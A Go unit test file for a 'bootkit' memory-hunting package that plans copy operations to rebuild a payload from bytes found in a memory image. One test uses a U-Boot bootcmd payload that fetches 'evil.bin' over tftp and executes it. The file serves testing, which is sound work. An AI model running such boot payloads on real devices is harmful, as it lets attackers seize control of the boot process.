package hunter

import (
	"context"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"gitlab.com/stephen-fox/bootkit/memory"
	"gitlab.com/stephen-fox/bootkit/stratagem"
)

func newContiguousHunter(t *testing.T, img *memory.Image, modify ...func(*ContiguousMatchConfig)) *ContiguousMatchHunter {
	t.Helper()

	config := DefaultContiguousMatchConfig()
	for _, fn := range modify {
		fn(&config)
	}

	h, err := NewContiguousMatchHunter(img, config)
	require.NoError(t, err)

	return h
}

func TestContiguousMatchHunter_WholePayload(t *testing.T) {
	payload := []byte("setenv bootcmd 'tftp 0x82000000 evil.bin; go 0x82000000'")

	data := randomBytes(5, 1024)
	copy(data[50:], payload)

	img, err := memory.NewImage(0x87f00000, data)
	require.NoError(t, err)

	s, err := newContiguousHunter(t, img).Search(context.Background(), payload, 0x1000)
	require.NoError(t, err)

	assert.Equal(t, ContiguousMatchName, s.Generator())
	assert.Equal(t, []stratagem.Operation{
		stratagem.CopyBlock{
			SourceAddress: 0x87f00000 + 50,
			Length:        uint64(len(payload)),
			DestAddress:   0x1000,
		},
	}, s.Operations())

	assert.Equal(t, payload, replay(t, img, s, len(payload)))
}

func TestContiguousMatchHunter_GreedyRuns(t *testing.T) {
	img, err := memory.NewImage(0x100, []byte("xxhelloxxxxworldxxhellowxx"))
	require.NoError(t, err)

	payload := []byte("helloworld")

	s, err := newContiguousHunter(t, img).Search(context.Background(), payload, 0x8000)
	require.NoError(t, err)

	// "hellow" at offset 18 is longer than "hello" at offset 2.
	assert.Equal(t, []stratagem.Operation{
		stratagem.CopyBlock{SourceAddress: 0x100 + 18, Length: 6, DestAddress: 0x8000},
		stratagem.CopyBlock{SourceAddress: 0x100 + 12, Length: 4, DestAddress: 0x8006},
	}, s.Operations())

	assert.Equal(t, payload, replay(t, img, s, len(payload)))
}

func TestContiguousMatchHunter_LowestOffsetTieBreak(t *testing.T) {
	img, err := memory.NewImage(0, []byte("..abc....abc....abc"))
	require.NoError(t, err)

	s, err := newContiguousHunter(t, img).Search(context.Background(), []byte("abc"), 0x1000)
	require.NoError(t, err)

	assert.Equal(t, []stratagem.Operation{
		stratagem.CopyBlock{SourceAddress: 2, Length: 3, DestAddress: 0x1000},
	}, s.Operations())
}

func TestContiguousMatchHunter_Deterministic(t *testing.T) {
	img, err := memory.NewImage(0x40000000, randomBytes(6, 32*1024))
	require.NoError(t, err)

	h := newContiguousHunter(t, img)
	payload := randomBytes(7, 256)

	first, err := h.Search(context.Background(), payload, 0x1000)
	require.NoError(t, err)

	assert.Equal(t, payload, replay(t, img, first, len(payload)))

	for i := 0; i < 3; i++ {
		again, err := h.Search(context.Background(), payload, 0x1000)
		require.NoError(t, err)

		if diff := cmp.Diff(first.Operations(), again.Operations()); diff != "" {
			t.Fatalf("operations differ (-exp +got):\n%s", diff)
		}
	}
}

func TestContiguousMatchHunter_MaxCopyLength(t *testing.T) {
	payload := []byte("0123456789abcdef")

	img, err := memory.NewImage(0, payload)
	require.NoError(t, err)

	h := newContiguousHunter(t, img, func(c *ContiguousMatchConfig) {
		c.MaxCopyLength = 5
	})

	s, err := h.Search(context.Background(), payload, 0x1000)
	require.NoError(t, err)

	require.Equal(t, 4, s.NumOperations())
	for _, op := range s.Operations() {
		assert.LessOrEqual(t, op.(stratagem.CopyBlock).Length, uint64(5))
	}

	assert.Equal(t, payload, replay(t, img, s, len(payload)))
}

func TestContiguousMatchHunter_ByteNotInImage(t *testing.T) {
	img, err := memory.NewImage(0, []byte("aaaabbbb"))
	require.NoError(t, err)

	s, err := newContiguousHunter(t, img).Search(context.Background(), []byte("abc"), 0x1000)
	assert.ErrorIs(t, err, ErrResultNotFound)
	assert.Nil(t, s)
}

func TestContiguousMatchHunter_EmptyImage(t *testing.T) {
	img, err := memory.NewImage(0, nil)
	require.NoError(t, err)

	s, err := newContiguousHunter(t, img).Search(context.Background(), []byte("a"), 0x1000)
	assert.ErrorIs(t, err, ErrResultNotFound)
	assert.Nil(t, s)
}

func TestContiguousMatchHunter_SkipsOverwrittenSources(t *testing.T) {
	img, err := memory.NewImage(0, []byte("ABCDEFGH"))
	require.NoError(t, err)

	h := newContiguousHunter(t, img)

	// "ABCD" only exists where "EFGH" is copied to.
	_, err = h.Search(context.Background(), []byte("EFGHABCD"), 0)
	assert.ErrorIs(t, err, ErrResultNotFound)

	// Copying a run onto itself is permitted.
	s, err := h.Search(context.Background(), []byte("ABCD"), 0)
	require.NoError(t, err)

	assert.Equal(t, []stratagem.Operation{
		stratagem.CopyBlock{SourceAddress: 0, Length: 4, DestAddress: 0},
	}, s.Operations())
}

func TestContiguousMatchHunter_SkipsSelfOverlap(t *testing.T) {
	img, err := memory.NewImage(0, []byte("abcd..abcd"))
	require.NoError(t, err)

	s, err := newContiguousHunter(t, img).Search(context.Background(), []byte("abcd"), 2)
	require.NoError(t, err)

	// Offset 0 would overlap the destination [2, 6).
	assert.Equal(t, []stratagem.Operation{
		stratagem.CopyBlock{SourceAddress: 6, Length: 4, DestAddress: 2},
	}, s.Operations())

	assert.Equal(t, []byte("abcd"), replay(t, img, s, 4))
}

func TestContiguousMatchHunter_IterationBudget(t *testing.T) {
	img, err := memory.NewImage(0, []byte("xxhelloxxxxworldxx"))
	require.NoError(t, err)

	h := newContiguousHunter(t, img, func(c *ContiguousMatchConfig) {
		c.MaxIterations = 2
	})

	_, err = h.Search(context.Background(), []byte("helloworld"), 0x1000)
	assert.ErrorIs(t, err, ErrResultNotFound)
}

func TestContiguousMatchHunter_Cancelled(t *testing.T) {
	img, err := memory.NewImage(0, []byte("abc"))
	require.NoError(t, err)

	ctx, cancel := context.WithCancel(context.Background())
	cancel()

	s, err := newContiguousHunter(t, img).Search(ctx, []byte("abc"), 0x1000)
	assert.ErrorIs(t, err, ErrCancelled)
	assert.Nil(t, s)
}

func TestNewContiguousMatchHunter_InvalidConfiguration(t *testing.T) {
	img, err := memory.NewImage(0, []byte("abc"))
	require.NoError(t, err)

	tests := map[string]func(*ContiguousMatchConfig){
		"ZeroWorkers":        func(c *ContiguousMatchConfig) { c.WorkerCount = 0 },
		"ZeroIterations":     func(c *ContiguousMatchConfig) { c.MaxIterations = 0 },
		"NegativeCopyLength": func(c *ContiguousMatchConfig) { c.MaxCopyLength = -1 },
	}

	for name, modify := range tests {
		t.Run(name, func(t *testing.T) {
			config := DefaultContiguousMatchConfig()
			modify(&config)

			_, err := NewContiguousMatchHunter(img, config)
			assert.ErrorIs(t, err, ErrInvalidConfiguration)
		})
	}

	_, err = newContiguousHunter(t, img).Search(context.Background(), nil, 0)
	assert.ErrorIs(t, err, ErrInvalidConfiguration)
}
